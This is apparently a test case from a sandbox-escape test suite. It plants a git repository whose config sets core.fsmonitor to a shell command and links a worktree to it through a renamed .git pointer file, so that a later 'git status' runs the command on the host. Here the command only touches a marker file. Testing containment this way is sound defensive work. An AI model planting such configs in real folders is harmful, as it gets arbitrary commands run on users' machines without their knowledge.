"""A .git file that points at a repository with another name: no directory is called .git, and git runs its config."""

CLASS = "planted"
REQUIREMENT = "I1"
CONTROL = """
os.makedirs(WORK + "/src/pointed")
subprocess.run(["git", "init", "-q", "--bare", WORK + "/src/data"], check=True)
with open(WORK + "/src/data/config", "w") as file:
    file.write('[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ' + WORK + '/src/pointed\\n'
               '\\tfsmonitor = "touch ' + HOST["outside"] + '/ran; false"\\n')
with open(WORK + "/src/pointed/.git", "w") as file:
    file.write("gitdir: ../data\\n")
say(planted=True)
"""
ATTACK = CONTROL
LATER = """
if os.path.isdir(WORK + "/src/pointed"):
    subprocess.run(["git", "-C", WORK + "/src/pointed", "status"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def observe(before, after):
    if after["outside"] != before["outside"]:
        return "ESCAPED", "it was executed on the host"
    if after["findings"]:
        return "DETECTED", ", ".join(after["findings"])
    return "CONTAINED", "nothing of it was handed back"
